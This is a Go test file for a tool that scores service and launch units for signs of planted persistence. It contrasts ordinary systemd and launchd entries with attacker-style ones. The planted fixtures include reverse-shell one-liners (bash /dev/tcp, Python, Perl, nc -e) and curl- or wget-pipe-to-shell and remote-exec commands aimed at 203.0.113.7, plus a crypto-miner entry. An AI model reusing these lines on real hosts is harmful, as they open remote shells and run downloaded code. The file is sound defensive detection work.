package score_test

import (
	"strings"
	"testing"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/service"
)

// ordinaryUnits are services of Linux and macOS as packages and administrators
// write them: kind, name, unit path, command line.
const ordinaryUnits = `
systemd|ssh.service|/usr/lib/systemd/system/ssh.service|/usr/sbin/sshd -D $SSHD_OPTS
systemd|nginx.service|/lib/systemd/system/nginx.service|/usr/sbin/nginx -g 'daemon on; master_process on;'
systemd|redis-server.service|/lib/systemd/system/redis-server.service|/usr/bin/redis-server /etc/redis/redis.conf --supervised systemd --daemonize no
systemd|docker.service|/lib/systemd/system/docker.service|/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock
systemd|containerd.service|/lib/systemd/system/containerd.service|/usr/bin/containerd
systemd|postgresql@14-main.service|/lib/systemd/system/postgresql@.service|-/usr/bin/pg_ctlcluster --skip-systemctl-redirect 14-main start
systemd|mysql.service|/lib/systemd/system/mysql.service|/usr/sbin/mysqld
systemd|apache2.service|/lib/systemd/system/apache2.service|/usr/sbin/apachectl start
systemd|cron.service|/lib/systemd/system/cron.service|/usr/sbin/cron -f $EXTRA_OPTS
systemd|getty@tty1.service|/lib/systemd/system/getty@.service|-/sbin/agetty -o '-p -- \u' --noclear %I $TERM
systemd|systemd-journald.service|/lib/systemd/system/systemd-journald.service|/lib/systemd/systemd-journald
systemd|systemd-tmpfiles-clean.service|/lib/systemd/system/systemd-tmpfiles-clean.service|systemd-tmpfiles --clean
systemd|initrd-cleanup.service|/lib/systemd/system/initrd-cleanup.service|systemctl --no-block isolate initrd-switch-root.target
systemd|dbus.service|/lib/systemd/system/dbus.service|@/usr/bin/dbus-daemon @dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only
systemd|polkit.service|/lib/systemd/system/polkit.service|/usr/lib/policykit-1/polkitd --no-debug
systemd|snapd.service|/lib/systemd/system/snapd.service|/usr/lib/snapd/snapd
systemd|snap.lxd.daemon.service|/etc/systemd/system/snap.lxd.daemon.service|/usr/bin/snap run lxd.daemon
systemd|rc-local.service|/lib/systemd/system/rc-local.service|/etc/rc.local start
systemd|apparmor.service|/lib/systemd/system/apparmor.service|/lib/apparmor/apparmor.systemd reload
systemd|unattended-upgrades.service|/lib/systemd/system/unattended-upgrades.service|/usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal
systemd|networkd-dispatcher.service|/lib/systemd/system/networkd-dispatcher.service|/usr/bin/networkd-dispatcher $networkd_dispatcher_args
systemd|dpkg-db-backup.service|/lib/systemd/system/dpkg-db-backup.service|/usr/libexec/dpkg/dpkg-db-backup
systemd|man-db.service|/lib/systemd/system/man-db.service|+/usr/bin/install -d -o man -g man -m 0755 /var/cache/man
systemd|e2scrub_all.service|/lib/systemd/system/e2scrub_all.service|/bin/bash -c "exec /sbin/e2scrub_all -C"
systemd|motd-news.service|/lib/systemd/system/motd-news.service|/etc/update-motd.d/50-motd-news --force
systemd|logrotate.service|/lib/systemd/system/logrotate.service|/usr/sbin/logrotate /etc/logrotate.conf
systemd|grub-initrd-fallback.service|/lib/systemd/system/grub-initrd-fallback.service|/bin/sh -c '. /etc/default/grub; test -e /boot/grub/grubenv || exit 0'
systemd|lvm2-pvscan@.service|/lib/systemd/system/lvm2-pvscan@.service|/sbin/lvm pvscan --cache --activate ay %i
systemd|wpa_supplicant.service|/lib/systemd/system/wpa_supplicant.service|/sbin/wpa_supplicant -u -s -O /run/wpa_supplicant
systemd|open-vm-tools.service|/lib/systemd/system/open-vm-tools.service|/usr/bin/vmtoolsd
systemd|walinuxagent.service|/lib/systemd/system/walinuxagent.service|/usr/bin/python3 -u /usr/sbin/waagent -daemon
systemd|amazon-ssm-agent.service|/etc/systemd/system/amazon-ssm-agent.service|/usr/bin/amazon-ssm-agent
systemd|google-osconfig-agent.service|/lib/systemd/system/google-osconfig-agent.service|/usr/bin/google_osconfig_agent
systemd|wazuh-agent.service|/usr/lib/systemd/system/wazuh-agent.service|/usr/bin/env /var/ossec/bin/wazuh-control start
systemd|falcon-sensor.service|/usr/lib/systemd/system/falcon-sensor.service|/opt/CrowdStrike/falcond
systemd|osqueryd.service|/usr/lib/systemd/system/osqueryd.service|/opt/osquery/bin/osqueryd --flagfile $FLAG_FILE --config_path $CONFIG_FILE
systemd|auditd.service|/lib/systemd/system/auditd.service|/sbin/auditd
systemd|tomcat9.service|/lib/systemd/system/tomcat9.service|/bin/sh /usr/libexec/tomcat9/tomcat-start.sh
systemd|jenkins.service|/lib/systemd/system/jenkins.service|/usr/bin/jenkins
systemd|myapp.service|/etc/systemd/system/myapp.service|/opt/myapp/venv/bin/python -m myapp.server --port 8080
systemd|webapp.service|/etc/systemd/system/webapp.service|/home/deploy/webapp/bin/server
systemd|gunicorn.service|/etc/systemd/system/gunicorn.service|/home/ubuntu/app/.venv/bin/gunicorn --workers 3 --bind unix:/run/gunicorn.sock wsgi:application
systemd|backup.service|/etc/systemd/system/backup.service|/usr/local/bin/backup.sh
systemd|node-app.service|/etc/systemd/system/node-app.service|/usr/bin/node /srv/app/index.js
systemd|prometheus.service|/etc/systemd/system/prometheus.service|/usr/local/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/var/lib/prometheus/
systemd|kubelet.service|/lib/systemd/system/kubelet.service|/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS
systemd|minecraft.service|/etc/systemd/system/minecraft.service|/usr/bin/java -Xmx4G -jar /opt/minecraft/server.jar nogui
systemd|syncthing@.service|/lib/systemd/system/syncthing@.service|/usr/bin/syncthing serve --no-browser --no-restart --logflags=0
systemd|pulseaudio.service|/usr/lib/systemd/user/pulseaudio.service|/usr/bin/pulseaudio --daemonize=no --log-target=journal
systemd|emacs.service|/home/ann/.config/systemd/user/emacs.service|/usr/bin/emacs --fg-daemon
systemd|sync-notes.service|/home/ann/.config/systemd/user/sync-notes.service|/home/ann/.local/bin/sync-notes
systemd|rsync-backup.service|/etc/systemd/system/rsync-backup.service|/bin/bash -c 'rsync -a -e ssh /srv/ backup@host:/srv/ && touch /var/lib/backup/done'
systemd|nix-daemon.service|/etc/systemd/system/nix-daemon.service|@/nix/var/nix/profiles/default/bin/nix-daemon nix-daemon --daemon
systemd|display-manager.service|/etc/systemd/system/display-manager.service|/run/current-system/sw/bin/gdm
systemd|healthcheck.service|/etc/systemd/system/healthcheck.service|/usr/bin/curl -fsS https://hc.example.net/ping/abc
sysv|vboxadd|/etc/init.d/vboxadd|/etc/init.d/vboxadd start
openrc|local|/etc/init.d/local|/etc/init.d/local start
launchd|com.apple.cfprefsd.xpc.daemon|/System/Library/LaunchDaemons/com.apple.cfprefsd.xpc.daemon.plist|/usr/sbin/cfprefsd daemon
launchd|com.apple.WindowServer|/System/Library/LaunchDaemons/com.apple.WindowServer.plist|/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer -daemon
launchd|com.apple.installer.osmessagetracing|/System/Library/LaunchDaemons/com.apple.installer.osmessagetracing.plist|/System/Library/PrivateFrameworks/OSInstaller.framework/Resources/OSMessageTracer
launchd|com.google.keystone.daemon|/Library/LaunchDaemons/com.google.keystone.daemon.plist|/Library/Google/GoogleSoftwareUpdate/GoogleSoftwareUpdate.bundle/Contents/MacOS/GoogleSoftwareUpdateDaemon
launchd|com.google.keystone.agent|/Users/ann/Library/LaunchAgents/com.google.keystone.agent.plist|/Users/ann/Library/Google/GoogleSoftwareUpdate/GoogleSoftwareUpdate.bundle/Contents/Resources/GoogleSoftwareUpdateAgent.app/Contents/MacOS/GoogleSoftwareUpdateAgent -runMode ifneeded
launchd|com.microsoft.autoupdate.helper|/Library/LaunchDaemons/com.microsoft.autoupdate.helper.plist|/Library/PrivilegedHelperTools/com.microsoft.autoupdate.helper
launchd|com.docker.vmnetd|/Library/LaunchDaemons/com.docker.vmnetd.plist|/Library/PrivilegedHelperTools/com.docker.vmnetd
launchd|us.zoom.ZoomDaemon|/Library/LaunchDaemons/us.zoom.ZoomDaemon.plist|/Library/PrivilegedHelperTools/us.zoom.ZoomDaemon
launchd|homebrew.mxcl.postgresql@14|/Users/ann/Library/LaunchAgents/homebrew.mxcl.postgresql@14.plist|/opt/homebrew/opt/postgresql@14/bin/postgres -D /opt/homebrew/var/postgresql@14
launchd|com.jamf.management.daemon|/Library/LaunchDaemons/com.jamf.management.daemon.plist|/usr/local/jamf/bin/jamf launchDaemon
launchd|org.macports.rsyncd|/Library/LaunchDaemons/org.macports.rsyncd.plist|/opt/local/bin/daemondo --label=rsyncd
launchd|com.adobe.ARMDC.Communicator|/Library/LaunchDaemons/com.adobe.ARMDC.Communicator.plist|/Library/PrivilegedHelperTools/com.adobe.ARMDC.Communicator
`

// plantedUnits are persistence as attackers write it.
const plantedUnits = `
systemd|cron.service|/etc/systemd/system/cron.service|/root/.sched/cron -f
systemd|clockd.service|/etc/systemd/system/clockd.service|/usr/bin/.clockd
systemd|cached.service|/etc/systemd/system/cached.service|/bin/sh -c "exec -a '[kswapd1]' /usr/bin/cachedd"
systemd|update.service|/etc/systemd/system/update.service|/tmp/update
systemd|kworker.service|/etc/systemd/system/kworker.service|/dev/shm/.k/kworker
systemd|cache.service|/etc/systemd/system/cache.service|/var/tmp/.cache/x
systemd|a.service|/etc/systemd/system/a.service|/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'
systemd|b.service|/etc/systemd/system/b.service|/bin/sh -c "curl -fsSL http://203.0.113.7/x.sh | sh"
systemd|c.service|/etc/systemd/system/c.service|/bin/bash -c "echo YmFzaA== | base64 -d | bash"
systemd|d.service|/etc/systemd/system/d.service|/usr/bin/python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0)"
systemd|e.service|/etc/systemd/system/e.service|/usr/bin/perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(443,inet_aton("203.0.113.7")));exec("/bin/sh -i")'
systemd|f.service|/etc/systemd/system/f.service|/usr/bin/nc -e /bin/sh 203.0.113.7 4444
systemd|systemd-resolverd.service|/etc/systemd/system/systemd-resolverd.service|/dev/shm/resolverd
systemd|dbus-deamon.service|/etc/systemd/system/dbus-deamon.service|/home/www/.x/dbus-daemon
systemd|sshd.service|/etc/systemd/system/sshd.service|/var/www/html/uploads/sshd
systemd|miner.service|/etc/systemd/system/miner.service|/usr/local/bin/xmrig -o pool:3333
systemd|g.service|/etc/systemd/system/g.service|/bin/bash /tmp/.ICE-unix/run.sh
systemd|run-u12.service|/run/systemd/transient/run-u12.service|/dev/shm/a
systemd|h.service|/etc/systemd/system/h.service|/bin/sh -c "wget -q http://203.0.113.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"
systemd|i.service|/etc/systemd/system/i.service|/proc/self/fd/3
launchd|com.apple.updater|/Library/LaunchDaemons/com.apple.updater.plist|/Users/Shared/.up/updater
launchd|com.apple.softwareupdated2|/Users/ann/Library/LaunchAgents/com.apple.softwareupdated2.plist|/Users/ann/Library/.hidden/agent
launchd|com.appIe.sync|/Users/ann/Library/LaunchAgents/com.appIe.sync.plist|/private/tmp/sync
launchd|com.apple.systemkeeper|/Library/LaunchDaemons/com.apple.systemkeeper.plist|/usr/bin/python -c "import urllib2;exec(urllib2.urlopen('http://203.0.113.7/a').read())"
launchd|com.helper.agent|/Library/LaunchAgents/com.helper.agent.plist|/usr/bin/osascript -e "do shell script \"curl http://203.0.113.7/a | sh\""
`

func units(t *testing.T, text string) []row {
	t.Helper()
	var out []row
	for line := range strings.SplitSeq(strings.TrimSpace(text), "\n") {
		f := strings.SplitN(line, "|", 4)
		if len(f) != 4 {
			t.Fatalf("not a unit: %s", line)
		}
		out = append(out, row{line, service.Install{Kind: service.Kind(f[0]), Name: f[1], UnitPath: f[2], ImagePath: f[3], Start: service.StartUnknown}})
	}
	return out
}

func TestOrdinaryUnitsStayQuiet(t *testing.T) {
	for _, r := range units(t, ordinaryUnits) {
		v := judge(r.in)
		if v.Score >= 40 {
			t.Errorf("%d %s: %s\n%s", v.Score, v.Severity, r.name, v.Explain())
		} else if v.Score >= 20 {
			t.Logf("%d %s: %s %+v", v.Score, v.Severity, r.name, v.Reasons[1:])
		}
	}
}

func TestPlantedUnitsAreHigh(t *testing.T) {
	for _, r := range units(t, plantedUnits) {
		v := judge(r.in)
		t.Logf("%3d %-13s %.90s", v.Score, v.Severity, r.name)
		if v.Score < 60 {
			t.Errorf("%d %s: %s\n%s", v.Score, v.Severity, r.name, v.Explain())
		}
	}
}

func TestFactsOfTheHost(t *testing.T) {
	unit := service.Install{Kind: service.Systemd, Name: "agent.service", ImagePath: "/usr/bin/agent", Start: service.StartUnknown}
	for _, c := range []struct {
		name   string
		change func(*service.Install)
		factor string
	}{
		{"nobody looked", func(*service.Install) {}, ""},
		{"missing", func(in *service.Install) { in.OnDisk = evidence.No }, "missing_program"},
		{"writable", func(in *service.Install) { in.WritableByOthers = evidence.Yes }, "writable_by_others"},
		{"unpackaged", func(in *service.Install) { in.Packaged = evidence.No }, "unpackaged"},
		{"unpackaged in a place of one's own", func(in *service.Install) { in.Packaged, in.ImagePath = evidence.No, "/usr/local/bin/agent" }, ""},
		{"all is well", func(in *service.Install) {
			in.OnDisk, in.WritableByOthers, in.Packaged = evidence.Yes, evidence.No, evidence.Yes
		}, ""},
	} {
		in := unit
		c.change(&in)
		got := ""
		if f := service.Features(in).Features; len(f) > 0 {
			got = f[0].Name
		}
		if got != c.factor {
			t.Errorf("%s: %q, want %q", c.name, got, c.factor)
		}
	}
}
